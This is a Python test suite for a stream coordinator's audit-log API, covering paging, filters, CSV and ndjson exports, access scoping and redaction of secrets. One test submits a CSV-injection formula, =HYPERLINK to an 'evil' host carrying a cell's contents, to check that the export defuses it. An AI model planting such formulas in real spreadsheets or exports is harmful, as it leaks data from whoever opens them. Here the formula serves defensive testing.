"""`/monitoring/…/audit`: pages, filters, CSV and ndjson, who sees what, and what remains of what was deleted."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import urllib3

from coord.runtime import auditreading
from coord.runtime.auditformats import CHUNK, COLUMNS, cell
from coord.runtime.moments import moment_of
from coord.store.base import StoreUnavailable
from tests.http.face import Face, basic, error_of
from tests.http.served import serving

WHO = {"requestedBy": "tester", "reason": "a test"}
ADMIN = urllib3.make_headers(basic_auth="admin:password")
SCALE = {"targetShardCount": 6, **WHO}
OF_STREAM = "/monitoring/streams/orders/audit"
OF_GROUP = "/monitoring/streams/orders/groups/g/audit"
STRAYS = "/monitoring/audit"


def entries(face: Face, path: str, query: Mapping[str, object] | None = None, *, user: str = "reader") -> list[dict[str, Any]]:
    answer = face.ask("GET", path, user=user, query=urlencode(query or {}))
    assert answer.status_code == 200, answer.text
    found: list[dict[str, Any]] = answer.json["entries"]
    return found


def told(found: list[dict[str, Any]]) -> list[tuple[str, int]]:
    return [(entry["action"], entry["status"]) for entry in found]


@pytest.fixture
def busy(world: Face) -> Face:
    """Of the stream: made, group's deletion refused elsewhere, scaled, a scale refused, one forbidden. Strays: a 404, a 401."""
    world.ask("POST", "/streams/orders/scale", SCALE)
    world.ask("POST", "/streams/orders/scale", {})
    world.ask("POST", "/streams/orders/scale", SCALE, user="reader")
    world.ask("POST", "/streams/nowhere/scale", SCALE)
    world.ask("POST", "/streams/orders/scale", SCALE, user=None)
    return world


def test_a_page_shows_the_newest_first_with_every_field(busy: Face) -> None:
    found = entries(busy, OF_STREAM)
    assert told(found) == [("SCALE_STREAM", 403), ("SCALE_STREAM", 400), ("SCALE_STREAM", 202), ("CREATE_STREAM", 201)]
    assert tuple(found[0]) == COLUMNS
    scaled = found[2]
    assert (scaled["principal"], scaled["requestedBy"], scaled["reason"]) == ("writer", "tester", "a test")
    assert (scaled["streamPrefix"], scaled["consumerGroup"]) == ("orders", None)
    assert scaled["timestamp"].startswith("2023-11-14T22:13:20.")
    assert scaled["coordinatorId"] == busy.services.config.id
    assert scaled["revision"] > 1
    assert told(entries(busy, OF_GROUP)) == [("CREATE_GROUP", 201)]


def test_strangers_and_unknown_names_are_shown_apart(busy: Face) -> None:
    found = entries(busy, STRAYS)
    assert told(found) == [("SCALE_STREAM", 401), ("SCALE_STREAM", 404)]
    assert [(entry["streamPrefix"], entry["revision"]) for entry in found] == [("orders", None), ("nowhere", None)]


@pytest.mark.parametrize(
    ("path", "query", "expected"),
    [
        (OF_STREAM, {"outcome": "SUCCESS"}, [202, 201]),
        (OF_STREAM, {"outcome": "FORBIDDEN"}, [403]),
        (OF_STREAM, {"action": "CREATE_STREAM"}, [201]),
        (OF_STREAM, {"action": "SCALE_STREAM", "outcome": "FAILED"}, [400]),
        (OF_STREAM, {"action": "ROLLBACK_MIGRATION"}, []),
        (OF_STREAM, {"since": "2023-11-14T22:13:21Z"}, []),
        (OF_STREAM, {"since": "2023-11-14", "until": "2023-11-14T23:14:20+01:00"}, [403, 400, 202, 201]),
        (OF_STREAM, {"until": "1700000000000"}, []),
        (OF_STREAM, {"since": "1700000000000", "action": "", "outcome": " "}, [403, 400, 202, 201]),
        (STRAYS, {"outcome": "UNAUTHORIZED"}, [401]),
        (STRAYS, {"until": "2000-01-01"}, []),
    ],
)
def test_filters_leave_what_was_asked_for(busy: Face, path: str, query: Mapping[str, object], expected: list[int]) -> None:
    assert [entry["status"] for entry in entries(busy, path, query)] == expected


@pytest.mark.parametrize(
    "query",
    [
        {"since": "yesterday"},
        {"until": "-1"},
        {"since": "9" * 30},
        {"outcome": "GOOD"},
        {"action": "drop table"},
        {"limit": "many"},
        {"cursor": "nonsense"},
        {"cursor": "WyI5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTkiXQ=="},
        {"cursor": "WyIxIiwiMiIsIjMiXQ=="},
    ],
)
@pytest.mark.parametrize("path", [OF_STREAM, STRAYS])
def test_a_wrong_filter_is_named(still: Face, path: str, query: Mapping[str, str]) -> None:
    answer = still.ask("GET", path, query=urlencode(query))
    assert error_of(answer) == (400, "INVALID_REQUEST")
    assert next(iter(query)) in answer.json["message"] + "".join(answer.json["details"])


@pytest.mark.parametrize("path", [OF_STREAM, STRAYS])
def test_pages_together_are_the_whole(busy: Face, path: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """However few entries one page may look at."""
    whole = entries(busy, path)
    for page, most in ((1, 1), (2, 3), (1000, 10_000)):
        monkeypatch.setattr(auditreading, "PAGE", page)
        monkeypatch.setattr(auditreading, "LOOKED_AT_MAX", most)
        found: list[dict[str, Any]] = []
        query = {"limit": "1"}
        for _ in range(50):
            answer = busy.ask("GET", path, query=urlencode(query)).json
            found += answer["entries"]
            if answer["nextCursor"] is None:
                break
            query["cursor"] = answer["nextCursor"]
        assert found == whole


def test_lines_of_json_hold_the_same_oldest_first(busy: Face) -> None:
    for path in (OF_STREAM, STRAYS):
        answer = busy.ask("GET", path, headers={"Accept": "application/x-ndjson"})
        assert answer.headers["content-type"] == "application/x-ndjson; charset=utf-8"
        assert [json.loads(line) for line in answer.text.splitlines()] == entries(busy, path)[::-1]


def test_csv_has_a_line_of_names_and_filters_hold(busy: Face) -> None:
    answer = busy.ask("GET", OF_STREAM, headers={"Accept": "text/csv"}, query="outcome=FORBIDDEN")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    names, row = csv.reader(io.StringIO(answer.text))
    assert tuple(names) == COLUMNS
    assert dict(zip(names, row, strict=True))["status"] == "403"


@pytest.mark.parametrize(
    "accept", ["*/*", "application/json", "text/html, */*;q=0.1", "nonsense", "text/csv;q=0.1, application/json"]
)
def test_anything_else_gets_a_page(busy: Face, accept: str) -> None:
    answer = busy.ask("GET", OF_STREAM, headers={"Accept": accept})
    assert answer.headers["content-type"] == "application/json"


def test_no_cell_of_a_spreadsheet_is_a_formula(world: Face) -> None:
    world.ask("POST", "/streams/orders/scale", {**SCALE, "reason": '=HYPERLINK("http://evil/?"&A1)', "requestedBy": "@SUM(1)"})
    answer = world.ask("GET", OF_STREAM, headers={"Accept": "text/csv"})
    row = list(csv.DictReader(io.StringIO(answer.text)))[-1]
    assert row["reason"] == '\'=HYPERLINK("http://evil/?"&A1)'
    assert row["requestedBy"] == "'@SUM(1)"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("plain", "plain"), ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("  =1", "'  =1"), ("\t=1", "'\t=1"),
        ("＝1", "'＝1"), ("|x", "'|x"), (-5, "-5"), (None, ""), ("", ""), (("=a", "b"), "'=a b"),
        (("READ", "WRITE"), "READ WRITE"),
    ],
)  # fmt: skip
def test_texts_that_a_spreadsheet_could_run_begin_with_a_quote(value: object, written: str) -> None:
    assert cell(value) == written


def test_what_was_deleted_still_tells_who_did_it(busy: Face) -> None:
    busy.ask("DELETE", "/streams/orders/groups/g", WHO)
    assert told(entries(busy, OF_GROUP)) == [("DELETE_GROUP", 200), ("CREATE_GROUP", 201)]
    busy.ask("DELETE", "/streams/orders/groups/g", WHO)
    assert told(entries(busy, OF_GROUP))[0] == ("DELETE_GROUP", 200), "there is no group any more to be refused about"
    assert told(entries(busy, STRAYS))[0] == ("DELETE_GROUP", 404)


@pytest.mark.parametrize(
    ("path", "code"),
    [("/monitoring/streams/none/audit", "STREAM_NOT_FOUND"), ("/monitoring/streams/orders/groups/none/audit", "GROUP_NOT_FOUND")],
)
@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
def test_what_never_was_is_not_found(still: Face, path: str, code: str, accept: str) -> None:
    assert error_of(still.ask("GET", path, headers={"Accept": accept})) == (404, code)


def test_k7_a_user_sees_the_strays_of_its_own_streams(busy: Face) -> None:
    """What names no legal stream is for those who may see all."""
    busy.ask("POST", "/streams/bad%7Bname/scale", SCALE)
    assert [entry["streamPrefix"] for entry in entries(busy, STRAYS)] == [None, "orders", "nowhere"]
    assert [entry["streamPrefix"] for entry in entries(busy, STRAYS, user="scoped")] == ["orders"]
    lines = busy.ask("GET", STRAYS, user="scoped", headers={"Accept": "application/x-ndjson"}).text.splitlines()
    assert [json.loads(line)["streamPrefix"] for line in lines] == ["orders"]


@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
def test_a_store_that_is_away_is_told_before_anything_is_answered(
    busy: Face, monkeypatch: pytest.MonkeyPatch, accept: str
) -> None:
    def away(*_: object, **__: object) -> None:
        raise StoreUnavailable("away")

    for name in ("tail", "latest", "requests"):
        monkeypatch.setattr(busy.store, name, away)
    for path in (OF_STREAM, STRAYS):
        assert error_of(busy.ask("GET", path, headers={"Accept": accept})) == (503, "STORE_UNAVAILABLE")


def test_refusals_that_were_left_out_are_shown_by_their_number(world: Face, monkeypatch: pytest.MonkeyPatch) -> None:
    now = [100.0]
    monkeypatch.setattr("coord.runtime.audit.time.monotonic", lambda: now[0])
    for _ in range(63):
        world.ask("POST", "/streams/orders", WHO)
    now[0] += 61
    world.ask("POST", "/streams/orders", WHO)
    (left_out,) = entries(world, OF_STREAM, {"action": "REQUESTS_SUPPRESSED"})
    assert left_out["requestSummary"].startswith("3 more refused requests since 2023-11-14T22:13:20.")


def test_k8_an_audit_page_holds_no_secret(world: Face) -> None:
    """Neither of the query, nor of the body, nor of what the caller proved itself with."""
    world.ask(
        "POST",
        "/streams/orders/scale",
        {**SCALE, "password": "MARKER-1", "token": "MARKER-2"},
        query="access_token=MARKER-3&reason=MARKER-4",
        headers={**basic("writer"), "Cookie": "session=MARKER-5", "X-Api-Key": "MARKER-6"},
    )
    world.ask("POST", "/streams/orders/scale", SCALE, user=None, headers={"Authorization": "Bearer eyJMARKER7.x.y"})
    for path in (OF_STREAM, STRAYS):
        for accept in ("application/json", "text/csv", "application/x-ndjson"):
            assert "MARKER" not in world.ask("GET", path, headers={"Accept": accept}).text


@pytest.mark.parametrize(
    ("written", "ms"),
    [("0", 0), ("1700000000000", 1_700_000_000_000), ("2023-11-14T22:13:20Z", 1_700_000_000_000),
     ("2023-11-14T23:13:20 01:00", 1_700_000_000_000), ("2023-11-14T22:13:20.5", 1_700_000_000_500)],
)  # fmt: skip
def test_times_are_read_as_people_write_them(written: str, ms: int) -> None:
    assert moment_of(written) == ms


@pytest.mark.e2e
@pytest.mark.parametrize("engine", ["gunicorn", "granian"])
def test_a_real_server_sends_all_lines_whatever_their_number(tmp_path: Path, engine: str) -> None:
    """More than one chunk, over a socket."""
    environ = {"COORDINATOR_STORE_TYPE": "memory", "COORDINATOR_SERVER_WORKERS": "1"}
    count = 2 * CHUNK + 50
    with serving(tmp_path, environ=environ, engine=engine) as served, urllib3.PoolManager(headers=ADMIN) as pool:
        url = f"http://127.0.0.1:{served.port}/coord/v1"
        for number in range(count):
            assert pool.request("POST", f"{url}/streams/none-{number}/scale", json=SCALE).status == 404
        for accept in ("application/x-ndjson", "text/csv"):
            answer = pool.request("GET", f"{url}/monitoring/audit", headers={**ADMIN, "Accept": accept})
            lines = answer.data.decode().splitlines()[accept == "text/csv" :]
            assert [f"/streams/none-{number}/scale" in line for number, line in enumerate(lines)] == [True] * count
        head = pool.request("HEAD", f"{url}/monitoring/audit", headers={**ADMIN, "Accept": "text/csv"})
        assert (head.status, head.data) == (200, b"")
        assert pool.request("GET", f"{url}/monitoring/session").status == 200, "the connection is still in step"
